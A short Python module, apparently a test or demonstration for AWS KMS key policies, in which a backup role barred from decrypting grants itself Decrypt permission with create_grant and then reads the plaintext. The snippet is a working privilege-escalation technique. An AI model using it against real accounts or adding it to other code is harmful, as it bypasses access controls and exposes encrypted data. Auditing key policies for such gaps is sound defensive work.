"""key-policies/break-in: the plaintext, for a role that may not decrypt."""

BACKUP = "arn:aws:iam::111122223333:role/backup"


def break_in(kms, key_id: str, ciphertext: bytes) -> bytes:
    """The plaintext of `ciphertext`, by a grant that the role gives to itself."""
    grant = kms.create_grant(KeyId=key_id, GranteePrincipal=BACKUP, Operations=["Decrypt"])
    return kms.decrypt(CiphertextBlob=ciphertext, GrantTokens=[grant["GrantToken"]])["Plaintext"]
